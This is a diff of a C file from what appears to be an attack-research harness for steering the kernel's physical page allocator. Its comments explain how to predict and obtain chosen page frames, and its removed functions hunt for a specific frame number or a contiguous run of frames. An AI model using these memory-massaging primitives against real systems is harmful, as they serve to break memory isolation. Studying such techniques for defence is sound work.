@@ -1,12 +1,11 @@
 /*
- * Frames that go from the kernel to a program, and back: which one comes next.
+ * Frames that go from the kernel to a program: which one comes next.
  *
  * 2 MiB pages come from halves of 4 MiB blocks. Where two of them were the halves of one block, no
  * half was left over; so the next page, if it is a lower half, comes from a block that was whole
  * until then, and its upper half is what the page after it will get. An attacker needs no more than
  * the numbers of the frames that it has.
  */
-#include <stdlib.h>
 #include <sys/mman.h>
 
 #include "attack.h"
@@ -16,8 +15,6 @@ enum {
 	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
 	CHOSEN_FRAME = 300, /* any but the first ones */
 	SHARE_LEFT = 8,
-	MOST_HUNTED_PAGES = 1 << 15,
-	RUN_SEARCH_PAGES = 2048,
 };
 
 struct huge_page {
@@ -102,74 +99,4 @@ void *attack_frame_take(const struct attack_frame *frame)
 		return NULL;
 	}
 	return page + (frame->pfn - first) * BW_PAGE_SIZE;
-}
-
-struct page {
-	uint64_t pfn;
-	void *address;
-};
-
-static int by_pfn(const void *left, const void *right)
-{
-	const struct page *a = left, *b = right;
-
-	return a->pfn < b->pfn ? -1 : a->pfn > b->pfn;
-}
-
-/*
- * The lower half of a run of twice the size, all of it ours: what is given back cannot merge with
- * anything, as its other half stays, so the next to ask for a run of its size gets it.
- */
-static bool is_run(const struct page *pages)
-{
-	return pages[0].pfn % (2 * ATTACK_RUN_FRAMES) == 0 &&
-	       pages[2 * ATTACK_RUN_FRAMES - 1].pfn == pages[0].pfn + 2 * ATTACK_RUN_FRAMES - 1;
-}
-
-void attack_run_take(struct attack_run *run)
-{
-	static struct page pages[RUN_SEARCH_PAGES];
-	char *memory = attack_pages(RUN_SEARCH_PAGES * BW_PAGE_SIZE);
-
-	for (int i = 0; i < RUN_SEARCH_PAGES; i++) {
-		pages[i].address = memory + (size_t)i * BW_PAGE_SIZE;
-		pages[i].pfn = attack_pfn(pages[i].address);
-	}
-	qsort(pages, RUN_SEARCH_PAGES, sizeof(pages[0]), by_pfn);
-	for (int i = 0; i + 2 * ATTACK_RUN_FRAMES <= RUN_SEARCH_PAGES; i++) {
-		if (is_run(&pages[i])) {
-			run->first_pfn = pages[i].pfn;
-			for (int k = 0; k < ATTACK_RUN_FRAMES; k++) {
-				run->pages[k] = pages[i + k].address;
-			}
-			return;
-		}
-	}
-	attack_skip("memory is too fragmented for a run of frames");
-}
-
-void attack_run_give_back(const struct attack_run *run)
-{
-	for (int i = 0; i < ATTACK_RUN_FRAMES; i++) {
-		munmap(run->pages[i], BW_PAGE_SIZE);
-	}
-}
-
-void *attack_frame_hunt(uint64_t pfn)
-{
-	char *memory = mmap(NULL, (size_t)MOST_HUNTED_PAGES * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
-			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-
-	if (memory == MAP_FAILED) {
-		return NULL;
-	}
-	for (int i = 0; i < MOST_HUNTED_PAGES; i++) {
-		char *page = memory + (size_t)i * BW_PAGE_SIZE;
-
-		*(volatile char *)page = 0;
-		if (attack_pfn(page) == pfn) {
-			return page;
-		}
-	}
-	return NULL;
 }
